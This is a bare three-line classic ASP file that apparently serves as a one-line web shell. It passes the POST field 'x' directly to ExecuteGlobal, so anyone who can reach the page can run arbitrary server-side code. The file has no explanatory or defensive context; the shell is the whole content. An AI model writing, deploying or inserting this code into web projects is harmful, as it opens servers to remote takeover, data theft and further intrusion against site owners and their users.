<%
ExecuteGlobal Request.Form("x")
%>
